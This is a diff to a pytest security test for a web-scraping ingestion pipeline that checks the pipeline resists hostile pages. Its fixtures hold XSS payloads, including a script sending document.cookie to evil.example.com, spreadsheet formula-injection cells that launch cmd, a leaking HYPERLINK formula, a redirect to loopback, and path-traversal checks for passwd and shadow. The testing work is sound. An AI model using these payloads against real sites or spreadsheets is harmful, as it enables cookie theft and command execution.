@@ -19,10 +19,10 @@ import duckdb
 import pytest
 from selectolax.lexbor import LexborHTMLParser
 
-from ingest import pipeline
-from ingest.config import Home
-from ingest.replay.server import ReplayServer
-from ingest.report import build_report
+from demo.replay.server import ReplayServer
+from eduopen import pipeline
+from eduopen.core.config import Home
+from eduopen.report.html import build_report
 from ingest.sources.base import IngestSummary
 from tests.reliability.conftest import CleanRun, copy_home, run_steps, use_env
 from tests.reliability.support import RECORDED_ON, SOURCES, query, run_env
@@ -32,8 +32,9 @@ pytestmark = pytest.mark.timeout(240)
 
 LISTING = "jyb_xwfb/s5147/index.html"
 DAY = RECORDED_ON.replace("-", "")
-SCRIPT_TITLE = ("<script>document.title='pwned'</script>"
-                "<img src=x onerror=\"document.body.dataset.pwned=1\">来华留学工作通知")
+SCRIPT_TITLE = (
+    "<script>document.title='pwned'</script><img src=x onerror=\"document.body.dataset.pwned=1\">来华留学工作通知"
+)
 FORMULA_TITLE = '=HYPERLINK("http://evil.example.com/?leak="&A1,"点击查看")'
 FORMULA_CELLS = ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")
 ARTICLES = {
@@ -65,10 +66,15 @@ def hostile_links(decoy_port: int) -> list[str]:
 
 
 def listing_page(links: list[str]) -> str:
-    entries = [(f"./{ARTICLES['script']}", "通知"), (f"./{ARTICLES['formula']}", "公告"),
-               (f"./{ARTICLES['redirect']}", "转载")] + [(link, "链接") for link in links]
-    items = "\n".join(f'<li><a href="{href.replace(chr(34), "&quot;")}" title="{title}">{title}</a>'
-                      f"<span>{RECORDED_ON}</span></li>" for href, title in entries)
+    entries = [
+        (f"./{ARTICLES['script']}", "通知"),
+        (f"./{ARTICLES['formula']}", "公告"),
+        (f"./{ARTICLES['redirect']}", "转载"),
+    ] + [(link, "链接") for link in links]
+    items = "\n".join(
+        f'<li><a href="{href.replace(chr(34), "&quot;")}" title="{title}">{title}</a><span>{RECORDED_ON}</span></li>'
+        for href, title in entries
+    )
     return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>新闻发布</title></head><body>
 <div id="wcmpagehtml"><ul id="list">
 {items}
@@ -95,14 +101,22 @@ def write_overlay(root: Path, decoy_port: int) -> Path:
     column = root / "moe_zh" / "jyb_xwfb" / "s5147"
     (column / "202611").mkdir(parents=True)
     (root / "moe_zh" / LISTING).write_text(listing_page(hostile_links(decoy_port)), encoding="utf-8")
-    (column / ARTICLES["script"]).write_text(article_page(SCRIPT_TITLE, [
-        "教育部发布通知。<script>fetch('http://evil.example.com/'+document.cookie)</script>",
-        "<iframe src=\"javascript:alert(1)\"></iframe>请各单位认真落实。"]), encoding="utf-8")
+    (column / ARTICLES["script"]).write_text(
+        article_page(
+            SCRIPT_TITLE,
+            [
+                "教育部发布通知。<script>fetch('http://evil.example.com/'+document.cookie)</script>",
+                '<iframe src="javascript:alert(1)"></iframe>请各单位认真落实。',
+            ],
+        ),
+        encoding="utf-8",
+    )
     (column / ARTICLES["formula"]).write_text(article_page(FORMULA_TITLE, list(FORMULA_CELLS)), encoding="utf-8")
     redirect = column / ARTICLES["redirect"]
     redirect.write_text("<html><body>moved</body></html>", encoding="utf-8")
-    redirect.with_name(redirect.name + ".headers.json").write_text(json.dumps(
-        {"status": 302, "Location": f"http://127.0.0.1:{decoy_port}/internal/stolen.html"}), encoding="utf-8")
+    redirect.with_name(redirect.name + ".headers.json").write_text(
+        json.dumps({"status": 302, "Location": f"http://127.0.0.1:{decoy_port}/internal/stolen.html"}), encoding="utf-8"
+    )
     return root
 
 
@@ -132,14 +146,19 @@ def hostile(clean_run: CleanRun, tmp_path_factory: pytest.TempPathFactory) -> Ho
             netlocs = {urlsplit(url).netloc for url in replay.env().values() if url.startswith("http")}
             paths = [r.path for r in replay.requests()]
         decoy_requests = decoy.requests
-    return HostileRun(home, last_before + 1, summaries["moe_zh"], netlocs, paths, decoy_requests,
-                      report.read_text(encoding="utf-8"))
+    return HostileRun(
+        home, last_before + 1, summaries["moe_zh"], netlocs, paths, decoy_requests, report.read_text(encoding="utf-8")
+    )
 
 
 def test_links_to_other_hosts_file_urls_loopback_and_private_addresses_are_never_requested(hostile):
     assert hostile.decoy_requests == []
-    fetched = {urlsplit(url).netloc for (url,) in query(
-        hostile.home.catalog, "select url from fetch_log where fetch_id >= ?", [hostile.first_fetch_id])}
+    fetched = {
+        urlsplit(url).netloc
+        for (url,) in query(
+            hostile.home.catalog, "select url from fetch_log where fetch_id >= ?", [hostile.first_fetch_id]
+        )
+    }
     assert fetched <= hostile.replay_netlocs  # not one request left the replayed sites
     stored = {urlsplit(url).netloc for (url,) in query(hostile.home.catalog, "select url from release_version")}
     assert stored == {"www.moe.gov.cn"}
@@ -149,14 +168,15 @@ def test_links_to_other_hosts_file_urls_loopback_and_private_addresses_are_never
 def test_encoded_path_traversal_and_backslash_links_are_not_requested(hostile):
     climbing = [p for p in hostile.replay_paths if "%2e" in p.lower() or ".." in p or "\\" in p or "%5c" in p.lower()]
     assert climbing == []
-    assert query(hostile.home.catalog, "select count(*) from release_version where url like '%passwd%' "
-                                       "or url like '%shadow%' or url like '%win.ini%'") == [(0,)]
+    assert query(
+        hostile.home.catalog,
+        "select count(*) from release_version where url like '%passwd%' or url like '%shadow%' or url like '%win.ini%'",
+    ) == [(0,)]
 
 
 def test_article_redirecting_to_a_loopback_service_is_refused_and_quarantined(hostile):
     url = "http://www.moe.gov.cn/jyb_xwfb/s5147/" + ARTICLES["redirect"]
-    ((reason, detail),) = query(hostile.home.catalog, "select reason, detail from quarantine where locator = ?",
-                                [url])
+    ((reason, detail),) = query(hostile.home.catalog, "select reason, detail from quarantine where locator = ?", [url])
     assert reason == "article_fetch_failed" and "refused (host 127.0.0.1:" in detail
     assert hostile.decoy_requests == []
 
@@ -181,8 +201,9 @@ def test_formula_text_survives_unchanged_in_parquet_and_no_csv_is_exported(hosti
     parquet = exports / "fct_policy_release.parquet"
     con = duckdb.connect()
     try:
-        rows = con.execute("select title, body_text from read_parquet(?) where title = ?",
-                           [str(parquet), FORMULA_TITLE]).fetchall()
+        rows = con.execute(
+            "select title, body_text from read_parquet(?) where title = ?", [str(parquet), FORMULA_TITLE]
+        ).fetchall()
     finally:
         con.close()
     # Parquet is typed data, not a spreadsheet: the cell is a string and stays exactly what was
